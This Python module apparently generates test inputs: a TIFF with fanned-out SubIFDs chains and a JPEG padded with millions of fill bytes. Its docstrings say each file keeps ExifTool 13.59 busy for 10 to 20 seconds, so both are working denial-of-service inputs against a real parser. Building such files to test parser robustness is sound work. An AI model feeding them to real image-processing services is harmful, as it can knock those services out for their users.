"""Small files that cost a reader far more than they weigh."""

import struct


def slow_tiff(*, levels: int = 6, fan_out: int = 8) -> bytes:
    """Return a TIFF of a few hundred bytes whose IFDs a naive reader visits `fan_out ** levels` times.

    Each IFD has one SubIFDs entry (tag 0x014A, TIFF Technical Note 1) that names the next level's IFD
    `fan_out` times. With the defaults ExifTool 13.59 works on it for more than 20 seconds.
    """
    entry_bytes = 2 + 12 + 4  # count, one entry, offset of the next IFD
    level_bytes = entry_bytes + 4 * fan_out
    content = b"II*\x00" + struct.pack("<I", 8)
    for level in range(levels):
        at = 8 + level * level_bytes
        content += struct.pack("<HHHIII", 1, 0x014A, 4, fan_out, at + entry_bytes, 0)
        content += struct.pack("<I", at + level_bytes) * fan_out
    return content + struct.pack("<HHHIII", 1, 0x0100, 4, 1, 1, 0)


def slow_jpeg(fill_bytes: int = 30_000_000) -> bytes:
    """Return a JPEG with fill bytes (ITU-T T.81, B.1.1.2) that a naive reader skips one by one.

    With the default ExifTool 13.59 works on it for about ten seconds; nothing else is wrong with it.
    """
    jfif = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + jfif + b"\xff" * fill_bytes + b"\xd9"
